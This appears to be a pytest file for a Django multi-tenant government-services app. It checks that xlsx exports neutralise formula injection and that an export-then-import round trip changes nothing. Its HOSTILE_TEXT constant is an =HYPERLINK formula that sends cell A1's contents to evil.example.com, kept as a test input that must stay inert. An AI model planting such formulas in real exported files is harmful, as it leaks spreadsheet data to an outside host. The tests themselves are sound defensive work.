"""xlsx exports never write live formulas (CSV/xlsx injection): text that starts with = + - @
is stored as a text cell, and export → import gives back exactly what was exported."""

import re
import zipfile

import pytest
from django_tenants.utils import schema_context
from openpyxl import load_workbook

from core.catalogue.exchange.exporter import catalogue_document, export_catalogue
from core.catalogue.exchange.importer import import_catalogue
from core.listings import services
from core.listings.exchange.exporter import export_listing, listing_document
from core.listings.exchange.importer import import_listing
from core.listings.models import ImplementationItem
from tenants.models import Region
from tests.exchange.conftest import SAMPLES, write

pytestmark = pytest.mark.django_db

HOSTILE_TEXT = '=HYPERLINK("http://evil.example.com/?"&A1,"点击查看")'


def formulas_in(path) -> list[str]:
    """Every <f> element of every sheet: a formula Excel would evaluate on opening."""
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(r"<f>.*?</f>", archive.read(n).decode())]


def test_catalogue_export_keeps_formula_like_text_as_text(tmp_path, catalogue_sample):
    anhui = Region.objects.get(slug="anhui")
    matter = catalogue_sample["matters"][0]
    matter["description"] = "=1+1"
    matter["statutory_limit"]["note"] = "-5 天"
    matter["aliases"] = ["@x", "+86 热线"]
    matter["materials"][0]["name"] = HOSTILE_TEXT
    import_catalogue(anhui, write(tmp_path / "hostile.json", catalogue_sample))
    before = catalogue_document(anhui)
    path = tmp_path / "anhui.xlsx"
    export_catalogue(anhui, path, "xlsx")
    assert formulas_in(path) == []
    cells = {c.value: c for row in load_workbook(path)["事项"].iter_rows() for c in row}
    assert cells["=1+1"].data_type == "s" and cells["=1+1"].quotePrefix
    assert not import_catalogue(anhui, path).changed
    after = catalogue_document(anhui)
    assert after == before
    exported = next(m for m in after["matters"] if m["basic_code"] == matter["basic_code"])
    assert (exported["description"], exported["statutory_limit"]["note"]) == ("=1+1", "-5 天")
    assert exported["aliases"] == ["@x", "+86 热线"]
    assert exported["materials"][0]["name"] == HOSTILE_TEXT


def test_listing_export_round_trip_loses_nothing(tmp_path):
    import_catalogue(Region.objects.get(slug="anhui"), SAMPLES / "catalogue-sample.json")
    shushan = Region.objects.get(slug="shushan")
    import_listing(shushan, SAMPLES / "listing-sample.json")
    with schema_context("shushan"):
        item = ImplementationItem.objects.get(matter__basic_code="000105001000")
        materials = item.materials
        materials[0]["name"] = HOSTILE_TEXT
        hostile = {
            "conditions": "=1+1",
            "hours": "-5 天",
            "aliases": ["@x", "-1"],
            "promised_limit": {**item.promised_limit, "note": "+1 工作日"},
            "materials": materials,
        }
        services.update_item(item, hostile)
    before = listing_document(shushan)
    path = tmp_path / "shushan.xlsx"
    export_listing(shushan, path, "xlsx")
    assert formulas_in(path) == []
    assert not import_listing(shushan, path).changed
    assert listing_document(shushan) == before
    with schema_context("shushan"):
        item.refresh_from_db()
        assert (item.conditions, item.hours, item.aliases) == ("=1+1", "-5 天", ["@x", "-1"])
        assert item.promised_limit["note"] == "+1 工作日"
        assert item.materials[0]["name"] == HOSTILE_TEXT
